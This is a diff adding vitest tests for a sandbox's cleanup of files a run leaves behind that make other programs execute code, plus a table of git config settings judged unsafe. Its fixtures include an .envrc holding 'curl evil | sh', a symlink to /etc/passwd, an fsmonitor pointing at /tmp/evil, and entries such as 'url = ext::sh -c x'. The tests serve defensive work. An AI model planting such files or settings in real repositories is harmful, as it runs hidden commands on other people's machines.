@@ -8,6 +8,7 @@ import { afterEach, beforeEach, expect, test } from 'vitest';
 import { credentialsAt } from '../src/walls/credentials.ts';
 import { environmentInside } from '../src/walls/environment.ts';
 import { ownerInside, writeHookInside } from '../src/walls/inside.ts';
+import { isPlainGitConfig, Left } from '../src/walls/left.ts';
 import { runLimits } from '../src/walls/limits.ts';
 import { makeOwnFolder, removeOwnFolder } from '../src/walls/own-folder.ts';
 import { clientProgram, packagesOf } from '../src/walls/programs.ts';
@@ -203,3 +204,56 @@ test('half of the machine stays with everybody else', () => {
     memoryBytes: 268_435_456,
   });
 });
+
+verifies(['K7', 'I2'], 'what a run left that makes other programs do things is moved aside, and told', () => {
+  const git = join(root, '.git');
+  mkdirSync(join(root, '.vscode'));
+  const kept = ['.vscode', '.claude', '.mcp.json', '.envrc', '.git/hooks', '.git/config'].map((name) =>
+    join(root, name),
+  );
+  symlinkSync('/etc/passwd', join(root, '.envrc'));
+  const left = new Left(root, kept);
+  // Nothing was left: what was there stays, whatever it holds.
+  writeFileSync(join(root, '.vscode', 'tasks.json'), '{}');
+  expect(left.aside('0')).toEqual([]);
+  mkdirSync(join(root, '.claude'));
+  writeFileSync(join(root, '.mcp.json'), '{}');
+  rmSync(join(root, '.envrc'));
+  writeFileSync(join(root, '.envrc'), 'curl evil | sh');
+  mkdirSync(join(git, 'hooks'), { recursive: true });
+  writeFileSync(join(git, 'hooks', 'pre-commit.sample'), '');
+  writeFileSync(
+    join(git, 'config'),
+    '[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "origin"]\n\turl = https://example.org/x\n',
+  );
+  expect(left.aside('1').join('\n')).toBe(
+    ['.claude', '.mcp.json', '.envrc']
+      .map(
+        (name) =>
+          `\`${join(root, name)}\` was made by the run, and makes other programs do things: it is \`${name}.aside-1\` now`,
+      )
+      .join('\n'),
+  );
+  expect(readFileSync(join(root, '.envrc.aside-1'), 'utf8')).toBe('curl evil | sh');
+  // A repository that names programs is none that git itself made.
+  writeFileSync(join(git, 'hooks', 'pre-commit'), 'evil');
+  writeFileSync(join(git, 'config'), '[core]\n\tfsmonitor = /tmp/evil\n');
+  expect(left.aside('2')).toHaveLength(2);
+  expect(() => readFileSync(join(git, 'config'))).toThrow('ENOENT');
+});
+
+test.each([
+  ['[core]\n\tbare = false\n[user]\n\tname = Ada', true],
+  ['[core]\n\thooksPath = x', false],
+  ['[core]\n\tsshCommand = x', false],
+  ['[include]\n\tpath = x', false],
+  ['[alias]\n\tst = !x', false],
+  ['[remote "o"]\n\turl = ext::sh -c x', false],
+  ['[remote "o"]\n\turl = git@example.org:a/b', true],
+  ['[filter "x"]\n\tclean = x', false],
+  ['[user] name = x\n[core] fsmonitor = y', false],
+  ['[core]\n\tbare = false \\\n\tfsmonitor = x', false],
+  ['[branch "main"]\n\tmerge = refs/heads/main', true],
+  ['[remote "o"]\n\tuploadpack = x', false],
+  ['[credential]\n\thelper = x', false],
+])('settings of git that name no program: %j %j', (text, plain) => expect(isPlainGitConfig(text)).toBe(plain));
